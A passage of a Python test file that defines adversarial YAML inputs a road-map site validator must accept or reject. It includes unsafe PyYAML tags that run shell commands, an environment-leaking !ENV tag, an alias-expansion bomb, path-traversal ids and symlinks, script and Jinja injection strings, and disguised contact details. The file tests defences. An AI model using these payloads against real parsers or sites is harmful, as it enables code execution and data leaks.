         "a UTF-8 byte-order mark, as Windows editors write it",
         shown=(Shown("both", page("goals", "adv-bom"), "A file saved with a BOM"),))

accepted("crlf-line-endings", "service", "file", "encoding",
         [Write("services/adv-crlf.yml",
                service(name="Saved on Windows").replace("\n", "\r\n"))],
         "Windows line endings",
         shown=(Shown("both", page("services", "adv-crlf"), "Saved on Windows"),))

rejected("yaml-extension", "goal", "id/file", "path",
         [Write("goals/adv-yaml-ext.yaml", goal(title="Written with the .yaml extension"))],
         "an item file ending .yaml: the road map reads .yml only, and says so rather than "
         "let the item vanish",
         [Expect("goals/adv-yaml-ext.yaml", 1)])

_t = "Long " + "word " * 2000 + "end"
accepted("very-long-title", "goal", "title", "number",
         [Write("goals/adv-long-title.yml", goal(title=_t))],
         "a 10,000-character title",
         shown=(Shown("both", page("goals", "adv-long-title"), "word word word end"),))

accepted("yaml-1-1-booleans-stay-text", "goal", "text", "yaml",
         [Write("goals/adv-no.yml",
                "title: NO\nsummary: yes\nsuccess_looks_like:\n  - on\n  - Off\n"
                "serves:\n  - cypp/stay-safe\nvisibility: public\n")],
         "YAML 1.1 yes/no words (NO, yes, on) stay text, as the editor shows them",
         shown=(Shown("both", page("goals", "adv-no"), "NO"),
                Shown("both", page("goals", "adv-no"), "Off")))

accepted("huge-order-number", "goal", "number", "number",
         [Write("goals/adv-huge-order.yml",
                goal(title="Ordered far away", extra="order: 123456789012345678901234567890\n"))],
         "a 30-digit whole number where only the sort order depends on it",
         shown=(Shown("both", page("goals", "adv-huge-order"), "Ordered far away"),))

# ===== rejected: YAML that could run code or read the environment =====================

_y = 'title: !!python/object/apply:os.system ["touch @@MARKER@@"]\n' + goal().split("\n", 1)[1]
rejected("yaml-python-object-apply", "goal", "title", "yaml",
         [Write("goals/adv-python-tag.yml", _y)],
         "a PyYAML tag that runs a shell command when loaded unsafely",
         [Expect("goals/adv-python-tag.yml", 1, ("bad-tag",))], alone=True)

_y = service().replace('name: "A service for the adversarial tests"',
                       "name: !!python/object/new:subprocess.check_output [[touch, @@MARKER@@]]")
rejected("yaml-python-object-new", "service", "name", "yaml",
         [Write("services/adv-python-new.yml", _y)],
         "!!python/object/new running a process",
         [Expect("services/adv-python-new.yml", 1, ("bad-tag",))])

_y = indicator().replace('source: "Illustrative figures."', "source: !ENV [HOME, PATH]")
rejected("yaml-env-tag", "indicator", "text", "yaml",
         [Write("indicators/adv-env-tag.yml", _y)],
         "a MkDocs-style !ENV tag that would publish the build machine's environment",
         [at("indicators/adv-env-tag.yml", _y, "source:", "bad-tag")], alone=True)

_y = ("title: Families get help\nsummary: !!python/name:os.system\nsuccess_looks_like: [x]\n"
      "serves: [cypp/stay-safe]\nvisibility: public\n")
rejected("yaml-python-name", "goal", "text", "yaml",
         [Write("goals/adv-python-name.yml", _y)], "!!python/name",
         [Expect("goals/adv-python-name.yml", 2, ("bad-tag",))])

_y = action() + "title: A second title\n"
rejected("yaml-duplicate-key", "action", "title", "yaml",
         [Write("actions/adv-duplicate-key.yml", _y)],
         "a field written twice (the second would silently win)",
         [at("actions/adv-duplicate-key.yml", _y, "title: A second", "duplicate-key")])

_y = ("title: Laughs\nowner: The partnership\nperiod: 2012\nsummary: s\n"
      "x0: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
      "x1: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
      "x2: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
      "x3: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
      "x4: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n"
      "x5: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
      "x6: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\n"
      "x7: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]\n"
      "priorities:\n  - id: one\n    title: *h\nvisibility: public\n")
rejected("yaml-billion-laughs", "partner-plan", "list", "yaml",
         [Write("partner-plans/adv-laughs.yml", _y)],
         "anchors and aliases that expand to a billion strings",
         [Expect("partner-plans/adv-laughs.yml", 5, ("alias",))])

_y = ("base: &base\n  title: Shared\nmerged:\n  <<: *base\n" + priority())
rejected("yaml-merge-key", "priority", "structure", "yaml",
         [Write("priorities/adv-merge.yml", _y)], "a merge key (<<)",
         [Expect("priorities/adv-merge.yml", 4, ("alias",))])

_y = goal(success=("x",)).replace('  - "x"\n', "  - " + "[" * 60 + "deep" + "]" * 60 + "\n")
rejected("yaml-deep-nesting", "goal", "list", "yaml",
         [Write("goals/adv-deep.yml", _y)], "lists nested 60 deep",
         [at("goals/adv-deep.yml", _y, "[[[", "too-deep")])

_y = story(account="A" * 1_100_000)
rejected("yaml-huge-file", "story", "file", "yaml",
         [Write("stories/adv-huge.yml", _y)], "a data file over 1 MB",
         [Expect("stories/adv-huge.yml", 1, ("file-too-large",))])

_y = service().replace("  before:", "\tbefore:")
rejected("yaml-tabs", "service", "structure", "yaml",
         [Write("services/adv-tabs.yml", _y)], "a tab used for indentation",
         [at("services/adv-tabs.yml", _y, "\tbefore", "tab")])

_y = "title: Safe\nsummary: s\n---\ntitle: Second document\n"
rejected("yaml-two-documents", "munro", "file", "yaml",
         [Write("munro.yml", _y)], "two YAML documents in one file",
         [Expect("munro.yml", 3, ("yaml-syntax",))])

_y = "- name: A. Example\n  role: Head of Early Help\n  contact: x\n"
rejected("yaml-top-level-list", "officers", "structure", "yaml",
         [Write("officers.yml", _y)], "a list where the file must be a block of fields",
         [Expect("officers.yml", 1, ("wrong-shape",))])

rejected("yaml-empty-file", "goal", "file", "yaml",
         [Write("goals/adv-empty.yml", "# only a comment\n")], "an empty data file",
         [Expect("goals/adv-empty.yml", 1, ("empty-file",))])

_y = service().replace("name:", "nmae:")
rejected("unknown-field-typo", "service", "name", "yaml",
         [Write("services/adv-typo.yml", _y)], "a mistyped field name",
         [Expect("services/adv-typo.yml", 1, ("unknown-key",))])

_y = goal() + f"\"<script>alert('{XSS}')</script>{{{{7*7}}}}\": 1\n"
rejected("hostile-field-name", "goal", "structure", "html",
         [Write("goals/adv-hostile-key.yml", _y)], "a field name made of mark-up and Jinja",
         [at("goals/adv-hostile-key.yml", _y, "\"<script>", "unknown-key")])

_y = goal().replace('title: "A goal for the adversarial tests"', "title: ~")
rejected("null-title", "goal", "title", "yaml",
         [Write("goals/adv-null-title.yml", _y)], "a title left as null",
         [Expect("goals/adv-null-title.yml", 1, ("wrong-type", "missing-field"))])

# ===== rejected: encodings and hidden characters =======================================

_y = goal(title="Families\u2019 help").encode("utf-8").replace("\u2019".encode(), b"\x92")
rejected("non-utf8-bytes", "goal", "title", "encoding",
         [Write("goals/adv-latin1.yml", _y)], "a Windows-1252 curly quote (not UTF-8)",
         [Expect("goals/adv-latin1.yml", 1, ("bad-encoding",))])

_y = action().replace("An action for", "A nul \x00 action for")
rejected("raw-nul-byte", "action", "title", "encoding",
         [Write("actions/adv-nul.yml", _y)], "a raw NUL byte in a file",
         [Expect("actions/adv-nul.yml", 1, ("bad-encoding",))])

_y = "title: \x1b[31mRed alert\x1b[0m\n" + priority().split("\n", 1)[1]
rejected("raw-escape-sequence", "priority", "title", "encoding",
         [Write("priorities/adv-raw-esc.yml", _y)],
         "a raw terminal escape sequence (recolours the terminal of whoever runs the check)",
         [Expect("priorities/adv-raw-esc.yml", 1, ("control-character",))])

_y = indicator().replace('name: "A measure for the adversarial tests"',
                         'name: "\\e[31mRed\\e[0m measure"')
rejected("yaml-escape-e", "indicator", "name", "encoding",
         [Write("indicators/adv-esc.yml", _y)], 'the YAML escape "\\e[31m"',
         [Expect("indicators/adv-esc.yml", 1, ("control-character",))])

_entry = '  - term: Nul\n    meaning: "Null \\0 inside"\n    visibility: public\n'
rejected("yaml-escape-null", "glossary", "text", "encoding",
         [add_term(_entry)], 'the YAML escape "\\0" in a glossary meaning',
         [Expect("glossary.yml", 4, ("control-character",))])

_y = plan(summary="Line\u2028separator")
rejected("line-separator", "partner-plan", "text", "encoding",
         [Write("partner-plans/adv-u2028.yml", _y)], "a raw U+2028 line separator",
         [at("partner-plans/adv-u2028.yml", _y, "summary", "control-character")])

_y = action(title="Publish the \u202ekoob yalp\u202c plan")
rejected("bidi-override-raw", "action", "title", "unicode",
         [Write("actions/adv-bidi.yml", _y)],
         "a right-to-left override (text that reads differently from what is stored)",
         [Expect("actions/adv-bidi.yml", 1, ("bidi-text",))])

_entry = ('  - role: "Head of \\u202eecnaniF"\n    organisation: Example Council\n'
          "    level: service\n    goal: safe-at-home\n    visibility: public\n")
rejected("bidi-override-escaped", "accountabilities", "text", "unicode",
         [add_acc(_entry)], "a right-to-left override written as a YAML escape",
         [Expect("accountabilities.yml", 3, ("bidi-text",))])

_y = goal().replace('title: "A goal for the adversarial tests"', 'title: "\\u200b\\u200b"')
rejected("zero-width-only-title", "goal", "title", "unicode",
         [Write("goals/adv-zw-title.yml", _y)], "a title made only of zero-width spaces",
         [Expect("goals/adv-zw-title.yml", 1, ("invisible-text",))])

_y = service(name="\u200b\u2060\u00ad")
rejected("invisible-only-name-raw", "service", "name", "unicode",
         [Write("services/adv-zw-name.yml", _y)], "a name of raw invisible characters",
         [Expect("services/adv-zw-name.yml", 1, ("invisible-text",))])

# ===== rejected: ids, file names and paths =============================================

rejected("file-name-dotdot", "goal", "id/file", "path",
         [Write("goals/..yml", goal())], "a goal file named '..yml' (id '.')",
         [Expect("goals/..yml", 1, ("bad-id",))], alone=True)

_y = priority(goals=("safe-at-home", '"../../adv-traversal"'))
rejected("reference-path-traversal", "priority", "reference", "path",
         [Write("priorities/adv-traversal.yml", _y)],
         "an id reference that climbs out of the site folder",
         [at("priorities/adv-traversal.yml", _y, "goals:")], alone=True)

_y = action(prio='"../../../tmp/adv-traversal"')
rejected("action-priority-traversal", "action", "reference", "path",
         [Write("actions/adv-traversal.yml", _y)], "an action's priority id as a path",
         [at("actions/adv-traversal.yml", _y, "priority:")])

_y = goal(serves=('"cypp/../../etc"',))
rejected("serves-traversal", "goal", "reference", "path",
         [Write("goals/adv-serves-traversal.yml", _y)], "a plan/priority reference as a path",
         [at("goals/adv-serves-traversal.yml", _y, "cypp/..")])

_y = plan(priorities=(("../x", "Climb", "Not ours."),))
rejected("plan-priority-id-traversal", "partner-plan", "id/file", "path",
         [Write("partner-plans/adv-bad-priority-id.yml", _y)], "a plan priority id as a path",
         [at("partner-plans/adv-bad-priority-id.yml", _y, "../x")])

rejected("goal-named-index", "goal", "id/file", "path",
         [Write("goals/index.yml", goal(title="A goal that replaces the goals page"))],
         "a goal file named index.yml: its page would replace the list of goals "
         "(goals/index.md); 'index' must be refused as an id",
         [Expect("goals/index.yml", 1, ("bad-id",))], alone=True)

rejected("windows-device-name", "service", "id/file", "path",
         [Write("services/con.yml", service())],
         "a file named con.yml cannot be checked out on Windows, where editors work; "
         "a careful publisher refuses device names (con, prn, aux, nul, com1...)",
         [Expect("services/con.yml", 1, ("bad-id",))])

_long = "-".join(["long"] * 40)  # 199 characters
rejected("very-long-file-name", "goal", "id/file", "path",
         [Write(f"goals/{_long}.yml", goal())],
         "an id of 199 characters (ids are at most 80 wherever they are referenced)",
         [Expect(f"goals/{_long}.yml", 1, ("bad-id",))])

rejected("confusable-file-name", "goal", "id/file", "unicode",
         [Write("goals/sаfe-at-home.yml", goal())],
         "a file name with a Cyrillic 'а' that looks like an existing id",
         [Expect("goals/sаfe-at-home.yml", 1, ("bad-id",))])

rejected("file-name-spaces-capitals", "service", "id/file", "path",
         [Write("services/Early Help.yml", service())], "a file name with capitals and a space",
         [Expect("services/Early Help.yml", 1, ("bad-id",))])

rejected("file-name-jinja", "priority", "id/file", "template",
         [Write("priorities/{{7*7}}.yml", priority())], "Jinja in a file name (the page's id)",
         [Expect("priorities/{{7*7}}.yml", 1, ("bad-id",))])

rejected("upper-case-extension", "goal", "id/file", "path",
         [Write("goals/adv-upper-ext.YML", goal(title="Silently ignored?"))],
         "a .YML file is not read; the editor must be told rather than see the item vanish",
         [Expect("goals/adv-upper-ext.YML", 1)])

rejected("yml-and-yaml-twins", "goal", "id/file", "path",
         [Write("goals/help-early.yaml", goal(title="A twin"))],
         "the same id as .yml and .yaml: the .yaml twin must not replace the item",
         [Expect("goals/help-early.yaml", 1)])

rejected("near-miss-single-file", "roadmap", "id/file", "path",
         [Write("roadmap.yaml", "title: x\n")], "roadmap.yaml beside roadmap.yml",
         [Expect("roadmap.yaml", 1, ("unknown-key",))])

rejected("symlink-item-file", "goal", "id/file", "path",
         [Link("goals/adv-stolen.yml")],
         "a goal file that is a link to a file outside the data folder",
         [Expect("goals/adv-stolen.yml", 1, ("symlink",))], alone=True)

rejected("symlink-folder", "blockage", "id/file", "path",
         [Link("blockages", folder=True)], "the blockages folder as a link to another folder",
         [Expect("blockages", 1, ("symlink",))], alone=True)

rejected("symlink-single-file", "officers", "id/file", "path",
         [Link("officers.yml")], "officers.yml as a link to a file outside",
         [Expect("officers.yml", 1, ("symlink",))])

# ===== rejected: dates, numbers and periods ============================================

_y = action(due="2026-02-30")
rejected("impossible-date", "action", "date", "date",
         [Write("actions/adv-feb-30.yml", _y)], "30 February",
         [at("actions/adv-feb-30.yml", _y, "due:", "bad-date")])

_y = blockage(raised="2026-13-01")
rejected("month-13", "blockage", "date", "date",
         [Write("blockages/adv-month-13.yml", _y)], "month 13",
         [at("blockages/adv-month-13.yml", _y, "raised:")])

_y = indicator().replace("next_update: 2027-06-30", "next_update: 2027-06-30T12:00:00")
rejected("date-with-time", "indicator", "date", "date",
         [Write("indicators/adv-datetime.yml", _y)], "a date with a time",
         [at("indicators/adv-datetime.yml", _y, "next_update:")])

rejected("roadmap-impossible-review-date", "roadmap", "date", "date",
         [Sub("roadmap.yml", r"(?m)^review_by: .*$", "review_by: 2027-02-29")],
         "29 February in a year that has none, in roadmap.yml",
         [Expect("roadmap.yml", 11, ("bad-date",))], breaks_roadmap=True)

_y = action(due='"2013-Q5"')
rejected("quarter-5", "action", "period", "date",
         [Write("actions/adv-q5.yml", _y)], "a fifth quarter",
         [at("actions/adv-q5.yml", _y, "due:")])

_y = indicator(series="  2010-11: 20.0\n  2011-12: .nan\n")
rejected("nan-figure", "indicator", "number", "number",
         [Write("indicators/adv-nan.yml", _y)], ".nan as a figure",
         [at("indicators/adv-nan.yml", _y, ".nan", "not-finite")])

_y = indicator(extra="england:\n  2011-12: .inf\n")
rejected("inf-figure", "indicator", "number", "number",
         [Write("indicators/adv-inf.yml", _y)], ".inf as the England average",
         [at("indicators/adv-inf.yml", _y, ".inf", "not-finite")])

_y = indicator(extra='targets:\n  - value: -.Inf\n    by: "2013-14"\n')
rejected("negative-inf-target", "indicator", "number", "number",
         [Write("indicators/adv-neg-inf.yml", _y)], "-.Inf as a target",
         [at("indicators/adv-neg-inf.yml", _y, "-.Inf", "not-finite")])

_y = indicator(unit="count", series="  2010-11: 20\n  2011-12: 1.0e+308\n")
rejected("figure-1e308", "indicator", "number", "number",
         [Write("indicators/adv-1e308.yml", _y)],
         "1.0e+308 (finite, but no chart or table can show it; the build crashed on it)",
         [at("indicators/adv-1e308.yml", _y, "1.0e+308")], alone=True)

_y = indicator(unit="count", series="  2010-11: 20\n  2011-12: 123456789012345678901234567890\n")
rejected("figure-30-digits", "indicator", "number", "number",
         [Write("indicators/adv-30-digits.yml", _y)],
         "a 30-digit figure (the build crashed on it)",
         [at("indicators/adv-30-digits.yml", _y, "1234567890")], alone=True)

_y = indicator(unit="count", series="  2010-11: 20\n  2011-12: -5\n",
               extra="suppress_small_numbers: true\n")
rejected("negative-count", "indicator", "number", "number",
         [Write("indicators/adv-negative-count.yml", _y)],
         "a negative count (a count of children cannot be below zero; -5 also slips past "
         "small-number suppression)",
         [at("indicators/adv-negative-count.yml", _y, "-5")])

_y = indicator(series='  2011-12: "12%"\n')
rejected("figure-as-text", "indicator", "number", "number",
         [Write("indicators/adv-text-figure.yml", _y)], "a figure written as text",
         [at("indicators/adv-text-figure.yml", _y, '"12%"', "wrong-type")])

_y = goal(extra="order: 010\n")
rejected("leading-zero-number", "goal", "number", "number",
         [Write("goals/adv-octal.yml", _y)], "010 (octal in YAML 1.1, ten in 1.2)",
         [at("goals/adv-octal.yml", _y, "010", "ambiguous-value")])

_y = indicator(extra="decimals: 99\n")
rejected("decimals-out-of-range", "indicator", "number", "number",
         [Write("indicators/adv-decimals.yml", _y)], "99 decimal places",
         [at("indicators/adv-decimals.yml", _y, "decimals")])

_y = indicator().replace("key_measure", "x") + "key_measure: yes\n"
rejected("yes-as-boolean", "indicator", "number", "yaml",
         [Write("indicators/adv-yes.yml", _y)], "'yes' where true or false is needed",
         [at("indicators/adv-yes.yml", _y, "key_measure", "wrong-type")])

_y = indicator(series='  "2011/12": 5.0\n')
rejected("period-with-slash", "indicator", "period", "period",
         [Write("indicators/adv-slash.yml", _y)], "a period written 2011/12",
         [at("indicators/adv-slash.yml", _y, "2011/12")])

_y = indicator(series='  "{{7*7}}": 5.0\n')
rejected("period-jinja", "indicator", "period", "template",
         [Write("indicators/adv-period-jinja.yml", _y)], "Jinja as a period",
         [at("indicators/adv-period-jinja.yml", _y, "{{7*7}}")])

_y = indicator(extra='baseline: "1999-00"\n')
rejected("baseline-not-in-series", "indicator", "period", "period",
         [Write("indicators/adv-baseline.yml", _y)], "a baseline that is not in the series",
         [Expect("indicators/adv-baseline.yml", 1)])

# ===== rejected: visibility ============================================================

for _cid, _vis, _codes in (("visibility-capital", "Public", ("bad-choice",)),
                           ("visibility-typo", "publik", ("bad-choice",)),
                           ("visibility-list", "[public]", ("wrong-type", "bad-choice")),
                           ("visibility-trailing-space", '"public "', ("bad-choice",))):
    _y = goal(visibility=_vis)
    rejected(_cid, "goal", "visibility", "visibility",
             [Write(f"goals/adv-{_cid}.yml", _y)], f"visibility: {_vis}",
             [at(f"goals/adv-{_cid}.yml", _y, "visibility:", *_codes)])

_y = "\n".join(line for line in service().splitlines() if not line.startswith("visibility"))
rejected("visibility-missing", "service", "visibility", "visibility",
         [Write("services/adv-no-visibility.yml", _y + "\n")], "no visibility at all",
         [Expect("services/adv-no-visibility.yml", 1, ("missing-field",))])

_y = blockage(visibility="public")
rejected("blockage-marked-public", "blockage", "visibility", "leak",
         [Write("blockages/adv-public-blockage.yml", _y)], "a blockage marked public",
         [at("blockages/adv-public-blockage.yml", _y, "visibility:", "public-blockage")])

_y = story(consent="false")
rejected("story-public-without-consent", "story", "visibility", "leak",
         [Write("stories/adv-no-consent.yml", _y)], "a public story without consent",
         [at("stories/adv-no-consent.yml", _y, "visibility:", "no-consent")])

_y = story(consent="yes")
rejected("story-consent-yes", "story", "visibility", "yaml",
         [Write("stories/adv-consent-yes.yml", _y)], "consent: yes (text, not true)",
         [at("stories/adv-consent-yes.yml", _y, "consent:")])

# ===== rejected: references across audiences ===========================================

_g = goal(title="Internal goal", visibility="internal")
_y = priority(goals=("adv-ref-internal-goal",))
rejected("public-priority-to-internal-goal", "priority", "reference", "leak",
         [Write("goals/adv-ref-internal-goal.yml", _g),
          Write("priorities/adv-ref-public.yml", _y)],
         "a public priority serving an internal goal",
         [at("priorities/adv-ref-public.yml", _y, "goals:", "internal-ref")],
         public_only=True, needs_checks=True)

_s = service(name="Internal service", visibility="internal")
_y = action(services=("adv-ref-internal-service",))
rejected("public-action-to-internal-service", "action", "reference", "leak",
         [Write("services/adv-ref-internal-service.yml", _s),
          Write("actions/adv-ref-public.yml", _y)],
         "a public action naming an internal service",
         [at("actions/adv-ref-public.yml", _y, "services:", "internal-ref")],
         public_only=True, needs_checks=True)

_p = plan(title="Internal plan", priorities=(("secret", "Secret", None),), visibility="internal")
_y = goal(serves=("adv-ref-internal-plan/secret",))
rejected("public-goal-serves-internal-plan", "goal", "reference", "leak",
         [Write("partner-plans/adv-ref-internal-plan.yml", _p),
          Write("goals/adv-ref-public.yml", _y)],
         "a public goal serving an internal partner plan's priority",
         [at("goals/adv-ref-public.yml", _y, "adv-ref-internal-plan/", "internal-ref")],
         public_only=True, needs_checks=True)

_i = indicator(name="Internal measure", visibility="internal")
_y = story(indicators=("adv-ref-internal-indicator",))
rejected("public-story-to-internal-indicator", "story", "reference", "leak",
         [Write("indicators/adv-ref-internal-indicator.yml", _i),
          Write("stories/adv-ref-public.yml", _y)],
         "a public story explaining an internal indicator",
         [at("stories/adv-ref-public.yml", _y, "indicators:", "internal-ref")],
         public_only=True, needs_checks=True)

_entry = acc_entry("Head of Nothing", goal_id="no-such-goal")
rejected("accountability-unknown-goal", "accountabilities", "reference", "reference",
         [add_acc(_entry)], "an accountability for a goal that does not exist",
         [Expect("accountabilities.yml", 6, ("unknown-ref",))])

_entry = acc_entry("Head of Two Things", extra="    action: publish-road-map\n")
rejected("accountability-two-subjects", "accountabilities", "reference", "reference",
         [add_acc(_entry)], "an accountability for a goal and an action at once",
         [Expect("accountabilities.yml", 3)])

# ===== rejected: whole-road-map checks =================================================

_y = blockage(raised="2030-01-01")
rejected("blockage-raised-in-future", "blockage", "date", "date",
         [Write("blockages/adv-future.yml", _y)], "a blockage raised after today",
         [at("blockages/adv-future.yml", _y, "raised:", "invalid-value")], needs_checks=True)

_y = blockage(status="resolved", extra="closed: 2026-01-01\nresolution: Sorted.\n")
rejected("blockage-closed-before-raised", "blockage", "date", "date",
         [Write("blockages/adv-closed-early.yml", _y)], "closed before it was raised",
         [Expect("blockages/adv-closed-early.yml", 1)])

_y = story(account="Amira Khan, aged 9, now feels safe at home.")
rejected("story-names-a-child", "story", "markdown", "personal-data",
         [Write("stories/adv-child-name.yml", _y)], "a public story naming a child",
         [at("stories/adv-child-name.yml", _y, "account:", "story-name")],
         needs_checks=True)

_y = story(told_by="Mrs Patel, her foster carer")
rejected("story-titled-name", "story", "text", "personal-data",
         [Write("stories/adv-titled-name.yml", _y)], "a public story naming its teller",
         [at("stories/adv-titled-name.yml", _y, "told_by:", "story-name")],
         needs_checks=True)

_y = goal(summary="Ask jane.smith@example.org for a place.")
rejected("email-in-public-text", "goal", "text", "personal-data",
         [Write("goals/adv-email.yml", _y)], "a personal email address in public text",
         [at("goals/adv-email.yml", _y, "summary:", "personal-data")],
         public_only=True, needs_checks=True)

_y = service(description="Write to jane.smith&#64;example.org.")
rejected("email-html-entity", "service", "text", "personal-data",
         [Write("services/adv-email-entity.yml", _y)], "an address hidden as &#64;",
         [at("services/adv-email-entity.yml", _y, "description:", "personal-data")],
         public_only=True, needs_checks=True)

_y = action(evidence="Email jane.smith [at] example [dot] org for the notes.")
rejected("email-at-dot-words", "action", "text", "personal-data",
         [Write("actions/adv-email-at.yml", _y)], "an address written with [at] and [dot]",
         [at("actions/adv-email-at.yml", _y, "evidence:", "personal-data")],
         public_only=True, needs_checks=True)

_y = priority(summary="Ring ０７７００ ９００１２３ after six.")
rejected("phone-full-width-digits", "priority", "text", "personal-data",
         [Write("priorities/adv-phone-wide.yml", _y)], "a mobile number in full-width digits",
         [at("priorities/adv-phone-wide.yml", _y, "summary:", "personal-data")],
         public_only=True, needs_checks=True)

_y = goal(summary="Text 07700\u200b900\u200b123 any time.")
rejected("phone-zero-width-spaces", "goal", "text", "personal-data",
         [Write("goals/adv-phone-zw.yml", _y)], "a mobile number split by zero-width spaces",
         [at("goals/adv-phone-zw.yml", _y, "summary:", "personal-data")],
         public_only=True, needs_checks=True)

_y = story(account="[Write to her](mailto:jane.smith%40example.org) if you can help.")
rejected("email-percent-mailto", "story", "markdown", "personal-data",
         [Write("stories/adv-mailto.yml", _y)], "a mailto link with the @ percent-encoded",
         [at("stories/adv-mailto.yml", _y, "account:", "personal-data")],
         public_only=True, needs_checks=True)

# Contact details and names as a reader sees them (issue 22): each disguise a check of the
# YAML alone let through.  Rejected wherever it is written, at its own line.
for _id, _kind, _path, _field, _text, _why in [
    ("email-link-splits-address", "goal", "goals/adv-email-link.yml", "summary",
     "Write to jane.smith@[example.org](https://example.org).",
     "Markdown link syntax splitting an email address"),
    ("phone-link-splits-number", "service", "services/adv-phone-link.yml", "description",
     "Ring 07700 [900123](https://example.org/ring) after six.",
     "Markdown link syntax splitting a phone number"),
    ("phone-line-break", "priority", "priorities/adv-phone-break.yml", "summary",
     "Ring 07700\n900123 after six.", "a phone number broken by a line break"),
    ("phone-middle-dots", "action", "actions/adv-phone-dots.yml", "evidence",
     "Ring 07700\u00b7900\u00b7123 after six.", "a phone number separated by middle dots"),
    ("phone-underscores", "indicator", "indicators/adv-phone-underscores.yml", "description",
     "Ring 07700_900_123 after six.", "a phone number separated by underscores"),
    ("phone-letter-o-for-zero", "goal", "goals/adv-phone-letter-o.yml", "summary",
     "Ring O77OO 9OO123 after six.", "a phone number with the letter O for zero"),
    ("phone-in-words", "partner-plan", "partner-plans/adv-phone-words.yml", "summary",
     "Ring oh seven seven double-oh nine double oh one two three.",
     "a phone number written in words"),
    ("email-ideographic-full-stop", "service", "services/adv-email-ideographic.yml",
     "description", "Write to jane@example\u3002org.",
     "an ideographic full stop in an email address's domain"),
    ("email-at-word-no-dot", "action", "actions/adv-email-at-word.yml", "evidence",
     "Write to jane at example.org for the notes.", "' at ' for '@', no dot in the name part"),
    ("email-look-alike-letters", "priority", "priorities/adv-email-cyrillic.yml", "summary",
     "Write to j\u0430ne@\u0435xample.org.", "Cyrillic letters that look Latin in an address"),
]:
    _y = {"goal": lambda t: goal(summary=t), "service": lambda t: service(description=t),
          "priority": lambda t: priority(summary=t), "action": lambda t: action(evidence=t),
          "indicator": lambda t: indicator(description=t),
          "partner-plan": lambda t: plan(summary=t)}[_kind](_text)
    rejected(_id, _kind, "text", "personal-data", [Write(_path, _y)], _why,
             [at(_path, _y, f"{_field}:", "personal-data")], public_only=True,
             needs_checks=True)

for _id, _field, _text, _why in [
    ("story-name-link-split", "account", "Am[ira](https://example.org) now feels safe.",
     "Markdown link syntax splitting a name"),
    ("story-name-capitals", "account", "AMIRA now feels safe at home.", "a name in capitals"),
    ("story-name-lower-case", "account", "amira now feels safe at home.",
     "a name in lower case"),
    ("story-name-combining-accent", "difference", "Ami\u0301ra feels safe now.",
     "a name with a combining accent"),
    ("story-name-cyrillic", "title", "\u0410mira is safe", "a name with a Cyrillic capital A"),
    ("story-name-greek", "account", "\u0391mira now feels safe at home.",
     "a name with a Greek capital alpha"),
    ("story-title-surname-capitals", "told_by", "MRS KHAN, her foster carer",
     "a title and a surname in capitals"),
    ("story-title-surname-lower-case", "told_by", "mrs khan, her foster carer",
     "a title and a surname in lower case"),
]:
    _path = f"stories/adv-{_id}.yml"
    _y = story(**{_field: _text})
    rejected(_id, "story", "text", "personal-data", [Write(_path, _y)], _why,
             [at(_path, _y, f"{_field}:", "story-name")], needs_checks=True)

_y = goal(summary="Ring 07700 900123 after six.")
rejected("help-contact-web-holds-number", "roadmap", "text", "personal-data",
         [Sub("roadmap.yml", r"(?m)^    phone: 01632 960001\n",
              "    phone: 01632 960001\n    web: https://wa.me/447700900123\n"),
          Write("goals/adv-help-web.yml", _y)],
         "a help contact's web address holding a mobile number does not make it public",
         [at("goals/adv-help-web.yml", _y, "summary:", "personal-data"),
          Expect("roadmap.yml", 20, ("personal-data",))], public_only=True, needs_checks=True)

_y = goal(summary="We will replace the New Operating Model.")
rejected("jargon-to-avoid", "goal", "text", "plain-language",
         [Write("goals/adv-jargon.yml", _y)], "jargon the glossary says to avoid",
         [at("goals/adv-jargon.yml", _y, "summary:", "avoid-term")],
         needs_checks=True)

rejected("munro-principle-typo", "munro", "text", "visibility",
         [Sub("munro.yml", r"principle: early-help", "principle: early_help")],
         "a Munro principle that is not one of the seven",
         [Expect("munro.yml", 2, ("bad-choice",))])

rejected("munro-principle-twice", "munro", "list", "reference",
         [add_munro(munro_entry("early-help"))], "a Munro principle assessed twice",
         [Expect("munro.yml", 10, ("duplicate-id",))], needs_checks=True)

rejected("officer-without-contact", "officers", "list", "yaml",
         [Sub("officers.yml", r"(?m)^    contact: .*\n", "")], "an officer with no contact",
         [Expect("officers.yml", 2, ("missing-field",))])

rejected("glossary-term-twice", "glossary", "list", "reference",
         [add_term(term_entry("cypp", "Defined again, in other letters."))],
         "a glossary term defined twice (different letter case)",
         [Expect("glossary.yml", 10, ("duplicate-id",))])

rejected("roadmap-no-benefits", "roadmap", "list", "yaml",
         [Sub("roadmap.yml", r"(?m)^benefits:\n  - .*\n", "benefits: []\n")],
         "roadmap.yml with an empty list of benefits",
         [Expect("roadmap.yml", 7)], breaks_roadmap=True)
